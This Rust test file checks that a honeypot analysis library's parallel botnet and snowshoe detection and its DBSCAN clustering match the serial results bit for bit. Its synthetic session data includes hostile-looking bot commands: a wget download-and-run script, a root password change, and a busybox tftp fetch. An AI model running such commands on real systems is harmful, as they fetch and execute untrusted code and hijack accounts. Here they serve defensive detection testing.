//! The parallel paths of snowshoe and botnet give exactly the serial result: same IP lists,
//! same floating-point scores bit for bit, whatever the thread count, and whether the threads
//! come from `*_parallel` or from a rayon pool the caller installed.

use analysis::dbscan::{NOISE, dbscan_cosine};
use analysis::tfidf::{TfidfConfig, fit_transform};
use analysis::{
    AnalysisError, BotnetParams, EventOptions, LoginAttempt, Session, SnowshoeParams, botnet,
    botnet_parallel, events_from_json_lines, no_progress, sessions_from_events, snowshoe,
    snowshoe_parallel,
};
use chrono::{DateTime, Duration, Utc};
use common::reference_cosine_dbscan;

mod common;

/// splitmix64, so the data is the same on every run.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
}

const SCRIPTS: &[&str] = &[
    "cd /tmp; wget http://x/a.sh; chmod +x a.sh; ./a.sh",
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "free -m",
    "echo root:abc123 | chpasswd",
    "busybox tftp -g -r b 10.0.0.1",
    "ls -la /var/run",
];

/// Sessions in a mix that exercises every path: bot scripts shared by many IPs, variants of
/// them, hand-typed unique commands, brute force without commands, reused and unique
/// credentials, bursts in time, reserved and loopback IPs, countries and ASNs on some sessions,
/// and IPs whose sessions spread over many chunks of the parallel gathering.
fn mixed_sessions(n: usize) -> Vec<Session> {
    let mut rng = Rng(14);
    let t0: DateTime<Utc> = "2024-03-01T00:00:00Z".parse().unwrap();
    (0..n)
        .map(|i| {
            let ip = match rng.below(100) {
                0 => "127.0.0.1".to_string(),
                1 => "10.1.2.3".to_string(),
                2..=20 => format!("198.51.100.{}", rng.below(8)),
                _ => format!("203.0.{}.{}", rng.below(12), rng.below(250)),
            };
            let burst = rng.below(4) == 0;
            let secs = if burst {
                3600 * rng.below(48) as i64 + rng.below(30) as i64
            } else {
                rng.below(2 * 86_400) as i64
            };
            let start = t0 + Duration::seconds(secs);
            let commands: Vec<String> = match rng.below(10) {
                0..=4 => vec![],
                5..=7 => vec![SCRIPTS[rng.below(SCRIPTS.len() as u64) as usize].to_string()],
                8 => vec![
                    SCRIPTS[rng.below(3) as usize].to_string(),
                    format!("echo {}", rng.below(50)),
                ],
                _ => vec![format!("vi notes{}.txt", rng.next() % 100_000)],
            };
            let logins = if rng.below(3) == 0 {
                vec![LoginAttempt {
                    username: "root".into(),
                    password: format!("pw{}", rng.below(6)),
                    success: true,
                    timestamp: start,
                }]
            } else {
                vec![]
            };
            Session {
                session_id: format!("{:012x}", rng.next() & 0xffff_ffff_ffff),
                sensor: Some("s1".into()),
                src_ip: Some(ip),
                start,
                end: start + Duration::milliseconds(rng.below(600_000) as i64),
                closed_duration: None,
                command_events: commands.len() as u32,
                commands,
                login_attempts: logins.len() as u32,
                logins,
                file_events: 0,
                file_downloads: vec![],
                client_version: None,
                hassh: None,
                protocol: Some("ssh".into()),
                event_count: 3,
                country: (i % 7 == 0).then(|| format!("C{}", i % 5)),
                asn: (i % 11 == 0).then(|| format!("AS{}", i % 3)),
            }
        })
        .collect()
}

fn check_same(sessions: &[Session]) {
    let b1 = botnet_parallel(
        sessions,
        48.0,
        &BotnetParams::default(),
        1,
        &mut no_progress(),
    )
    .unwrap();
    let s1 = snowshoe_parallel(
        sessions,
        48.0,
        &SnowshoeParams::default(),
        1,
        &mut no_progress(),
    )
    .unwrap();
    assert_eq!(
        botnet(sessions, 48.0, &BotnetParams::default(), &mut no_progress()).unwrap(),
        b1
    );
    assert_eq!(
        snowshoe(
            sessions,
            48.0,
            &SnowshoeParams::default(),
            &mut no_progress()
        )
        .unwrap(),
        s1
    );
    for threads in [2, 3, 4] {
        let b = botnet_parallel(
            sessions,
            48.0,
            &BotnetParams::default(),
            threads,
            &mut no_progress(),
        )
        .unwrap();
        assert_eq!(b, b1, "botnet with {threads} threads");
        // Bit-for-bit, not only within PartialEq's float comparison.
        assert_eq!(
            serde_json::to_string(&b).unwrap(),
            serde_json::to_string(&b1).unwrap()
        );
        let s = snowshoe_parallel(
            sessions,
            48.0,
            &SnowshoeParams::default(),
            threads,
            &mut no_progress(),
        )
        .unwrap();
        assert_eq!(s, s1, "snowshoe with {threads} threads");
        assert_eq!(
            serde_json::to_string(&s).unwrap(),
            serde_json::to_string(&s1).unwrap()
        );
    }
    // Inside a caller's rayon pool the plain functions use its threads, with the same result.
    let pool = rayon::ThreadPoolBuilder::new()
        .num_threads(2)
        .build()
        .unwrap();
    let (b, s) = pool.install(|| {
        (
            botnet(sessions, 48.0, &BotnetParams::default(), &mut no_progress()).unwrap(),
            snowshoe(
                sessions,
                48.0,
                &SnowshoeParams::default(),
                &mut no_progress(),
            )
            .unwrap(),
        )
    });
    assert_eq!(b, b1);
    assert_eq!(s, s1);
}

#[test]
fn parallel_equals_serial_on_a_mixed_synthetic_window() {
    let sessions = mixed_sessions(12_000);
    let b = botnet(
        &sessions,
        48.0,
        &BotnetParams::default(),
        &mut no_progress(),
    )
    .unwrap();
    // The data reaches every part of the computation the threads change.
    assert!(b.error.is_none(), "{:?}", b.error);
    assert!(
        b.similar_command_ips.len() > 100,
        "{}",
        b.similar_command_ips.len()
    );
    assert!(b.indicators.commands.avg_similarity > 0.0);
    assert!(b.indicators.timing.cluster_count > 0);
    assert!(!b.credential_reuse_ips.is_empty());
    let s = snowshoe(
        &sessions,
        48.0,
        &SnowshoeParams::default(),
        &mut no_progress(),
    )
    .unwrap();
    assert!(!s.low_volume_ips.is_empty() && s.indicators.timing.cluster_count > 0);
    check_same(&sessions);
    // Input order does not matter either.
    let mut reversed = sessions.clone();
    reversed.reverse();
    check_same(&reversed);
}

#[test]
fn parallel_equals_serial_on_the_real_samples() {
    // The same fixtures as tests/golden.rs.
    let dir =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/fixtures/cowrie");
    let mut events = Vec::new();
    for sub in ["kareiva-cowrie-logs", "lucasfaudman-honeypot-ai"] {
        let mut files: Vec<_> = std::fs::read_dir(dir.join(sub))
            .unwrap_or_else(|e| panic!("{}: {e}", dir.join(sub).display()))
            .map(|e| e.unwrap().path())
            .filter(|p| p.extension().is_none_or(|x| x != "gz" && x != "bz2"))
            .collect();
        files.sort();
        for f in files {
            events.extend(events_from_json_lines(&std::fs::read_to_string(f).unwrap()).0);
        }
    }
    let (sessions, _) = sessions_from_events(&events, EventOptions::default());
    assert!(sessions.len() > 500, "{}", sessions.len());
    check_same(&sessions);
}

#[test]
fn zero_threads_is_an_error() {
    let sessions = mixed_sessions(20);
    assert!(matches!(
        botnet_parallel(
            &sessions,
            24.0,
            &BotnetParams::default(),
            0,
            &mut no_progress()
        ),
        Err(AnalysisError::InvalidParameter {
            name: "threads",
            ..
        })
    ));
    assert!(matches!(
        snowshoe_parallel(
            &sessions,
            24.0,
            &SnowshoeParams::default(),
            0,
            &mut no_progress()
        ),
        Err(AnalysisError::InvalidParameter {
            name: "threads",
            ..
        })
    ));
}

/// Documents of a few command "families" (eight words each, most present in every member) with
/// a few stray words, and a tenth of documents of stray words only: thousands of distinct TF-IDF
/// rows that form large clusters, their borders, and noise.
fn family_documents(n: usize, families: u64, seed: u64) -> Vec<String> {
    let mut rng = Rng(seed);
    (0..n)
        .map(|_| {
            let mut words = Vec::new();
            let family = rng.below(families);
            if rng.below(10) < 9 {
                for w in 0..8 {
                    if rng.below(10) < 8 {
                        words.push(format!("f{family}w{w}"));
                    }
                }
            }
            for _ in 0..rng.below(4) {
                words.push(format!("stray{}", rng.below(40)));
            }
            words.join(" ")
        })
        .collect()
}

#[test]
fn cosine_dbscan_gives_the_reference_labels_serially_and_on_two_threads() {
    let cfg = TfidfConfig {
        max_features: None,
        ngram_range: (1, 1),
        lowercase: false,
        min_token_len: 1,
    };
    let pool = rayon::ThreadPoolBuilder::new()
        .num_threads(2)
        .build()
        .unwrap();
    // Small enough for the quadratic reference.
    let (_, rows) = fit_transform(&family_documents(1_200, 3, 3), &cfg).unwrap();
    let expected = reference_cosine_dbscan(&rows, 0.3, 4);
    let clusters = expected.iter().copied().max().unwrap_or(NOISE) + 1;
    assert!(clusters >= 3, "{clusters} clusters");
    assert!(expected.contains(&NOISE));
    assert_eq!(dbscan_cosine(&rows, 0.3, 4).unwrap(), expected);
    assert_eq!(
        pool.install(|| dbscan_cosine(&rows, 0.3, 4).unwrap()),
        expected
    );
    // One large cluster, as command sequences of bots make: enough unplaced cores at once that
    // the component search splits its comparisons over the threads.
    let (_, rows) = fit_transform(&family_documents(6_000, 1, 4), &cfg).unwrap();
    let serial = dbscan_cosine(&rows, 0.3, 4).unwrap();
    assert!(serial.iter().filter(|&&l| l != NOISE).count() > 4_500);
    assert_eq!(
        pool.install(|| dbscan_cosine(&rows, 0.3, 4).unwrap()),
        serial
    );
}
